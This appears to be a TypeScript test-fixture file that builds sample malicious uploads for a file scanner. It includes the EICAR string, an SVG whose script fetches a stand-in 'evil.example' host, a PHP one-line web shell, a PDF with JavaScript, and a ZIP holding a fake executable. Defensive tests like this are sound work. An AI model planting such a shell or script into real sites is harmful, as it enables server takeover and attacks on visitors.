import { Buffer } from 'node:buffer';
import { crc32, deflateRawSync, gzipSync } from 'node:zlib';

/** The harmless file that every malware scanner takes for a virus, in two parts lest this source be taken for it. */
export const EICAR = Buffer.from(
  ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', 'STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('-'),
);

/** A drawing that acts as soon as it is shown. */
export const SCRIPTED_SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>fetch("//evil.example")</script></svg>',
);
/** A page that acts as soon as it is shown. */
export const HTML = Buffer.from('<!doctype html><html><body><script>alert(document.domain)</script></body></html>');

/** Makes a ZIP archive of one file, stored or deflated. */
export function zipOf(name: string, content: Buffer, isDeflated = false): Buffer {
  const body = isDeflated ? deflateRawSync(content) : content;
  const common = Buffer.alloc(26);
  common.writeUInt16LE(20, 0);
  common.writeUInt16LE(isDeflated ? 8 : 0, 4);
  common.writeUInt32LE(crc32(content), 10);
  common.writeUInt32LE(body.length, 14);
  common.writeUInt32LE(content.length, 18);
  common.writeUInt16LE(name.length, 22);
  const local = Buffer.concat([Buffer.from('PK\u0003\u0004', 'latin1'), common, Buffer.from(name), body]);
  const central = Buffer.concat([
    Buffer.from('PK\u0001\u0002\u0014\u0000', 'latin1'),
    common,
    Buffer.alloc(14),
    Buffer.from(name),
  ]);
  const end = Buffer.alloc(22);
  end.write('PK\u0005\u0006', 'latin1');
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, central, end]);
}

/** What is hidden in or behind a picture. */
export const STOWAWAYS: Readonly<Record<string, Buffer>> = {
  zip: zipOf('run.exe', Buffer.from('MZ evil')),
  jar: zipOf('META-INF/MANIFEST.MF', Buffer.from('Main-Class: Evil')),
  html: HTML,
  svg: SCRIPTED_SVG,
  php: Buffer.from('<?php system($_GET["c"]); ?>'),
  script: Buffer.from('*/=alert(1);/*'),
  pdf: Buffer.from('%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'),
  program: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 0x90), Buffer.from('PE\0\0')]),
  gzip: gzipSync('evil'),
  eicar: EICAR,
};
